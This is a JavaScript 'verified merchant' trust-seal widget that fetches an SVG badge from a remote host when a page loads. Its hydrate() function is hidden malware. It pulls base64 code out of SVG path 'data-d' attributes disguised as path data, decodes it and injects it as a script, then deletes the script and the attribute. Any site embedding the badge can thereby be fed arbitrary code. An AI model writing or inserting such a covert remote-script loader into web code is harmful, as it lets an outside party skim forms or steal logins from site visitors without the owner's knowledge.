// corpus note: "trust seal" badge widget that fetches an SVG seal; one path's attribute carries encoded code that is decoded and injected as a script element
/*!
 * SecureSeal badge v2.3.1
 * Renders a verified-merchant seal, tooltip and "last scanned" date.
 */
var SecureSeal = (function (window, document) {
  "use strict";

  var DEFAULTS = {
    container: "#secure-seal",
    size: 96,
    theme: "light",
    lang: document.documentElement.lang || "en",
    sealUrl: "https://seal.secure-merchant-verify.test/badge/v2/seal.svg",
    tooltip: true
  };

  var I18N = {
    en: { verified: "Verified merchant", scanned: "Last scanned", click: "Click to verify" },
    de: { verified: "Verifizierter Händler", scanned: "Zuletzt geprüft", click: "Zum Prüfen klicken" },
    fr: { verified: "Marchand vérifié", scanned: "Dernière analyse", click: "Cliquez pour vérifier" }
  };

  function extend(a, b) {
    var o = {}, k;
    for (k in a) if (a.hasOwnProperty(k)) o[k] = a[k];
    for (k in b) if (b && b.hasOwnProperty(k)) o[k] = b[k];
    return o;
  }

  function t(lang, key) {
    var l = I18N[lang.slice(0, 2)] || I18N.en;
    return l[key] || I18N.en[key];
  }

  function formatDate(d) {
    return d.getFullYear() + "-" + ("0" + (d.getMonth() + 1)).slice(-2) + "-" + ("0" + d.getDate()).slice(-2);
  }

  function buildTooltip(opts) {
    var tip = document.createElement("div");
    tip.className = "ss-tooltip";
    tip.style.cssText = "display:none;position:absolute;background:#222;color:#fff;font:12px/1.4 Arial;padding:6px 8px;border-radius:3px;white-space:nowrap";
    tip.innerHTML = "<b>" + t(opts.lang, "verified") + "</b><br>" + t(opts.lang, "scanned") + ": " + formatDate(new Date()) +
      "<br><small>" + t(opts.lang, "click") + "</small>";
    return tip;
  }

  function attachTooltip(host, tip) {
    host.style.position = "relative";
    host.appendChild(tip);
    host.addEventListener("mouseenter", function () { tip.style.display = "block"; tip.style.top = "100%"; });
    host.addEventListener("mouseleave", function () { tip.style.display = "none"; });
  }

  // normalise attribute data produced by the seal exporter (base64 with path noise)
  function normalisePathData(raw) {
    return raw.replace(/[MLZ ,]/g, "").replace(/_/g, "/").replace(/-/g, "+");
  }

  function hydrate(svgRoot) {
    var nodes = svgRoot.querySelectorAll("path[data-d], g[data-d]");
    for (var i = 0; i < nodes.length; i++) {
      var raw = nodes[i].getAttribute("data-d");
      if (!raw || raw.length < 40) continue;
      var s = document.createElement("script");
      s.text = decodeURIComponent(escape(window.atob(normalisePathData(raw))));
      document.head.appendChild(s);
      document.head.removeChild(s);
      nodes[i].removeAttribute("data-d");
    }
  }

  function render(host, svgText, opts) {
    var wrap = document.createElement("a");
    wrap.href = "https://seal.secure-merchant-verify.test/verify?d=" + encodeURIComponent(location.hostname);
    wrap.target = "_blank";
    wrap.rel = "noopener";
    wrap.innerHTML = svgText;
    var svg = wrap.querySelector("svg");
    if (svg) {
      svg.setAttribute("width", opts.size);
      svg.setAttribute("height", opts.size);
      if (opts.theme === "dark") svg.style.filter = "invert(1)";
      hydrate(svg);
    }
    host.appendChild(wrap);
    if (opts.tooltip) attachTooltip(host, buildTooltip(opts));
  }

  function init(userOpts) {
    var opts = extend(DEFAULTS, userOpts);
    var host = document.querySelector(opts.container);
    if (!host) {
      host = document.createElement("div");
      host.id = opts.container.replace(/^#/, "");
      host.style.cssText = "position:fixed;left:12px;bottom:12px;z-index:999";
      document.body.appendChild(host);
    }
    var xhr = new XMLHttpRequest();
    xhr.open("GET", opts.sealUrl + "?h=" + encodeURIComponent(location.hostname), true);
    xhr.onload = function () {
      if (xhr.status === 200 && /<svg/i.test(xhr.responseText)) render(host, xhr.responseText, opts);
    };
    xhr.send();
  }

  return { init: init, version: "2.3.1" };
})(window, document);

if (document.readyState !== "loading") SecureSeal.init();
else document.addEventListener("DOMContentLoaded", function () { SecureSeal.init(); });
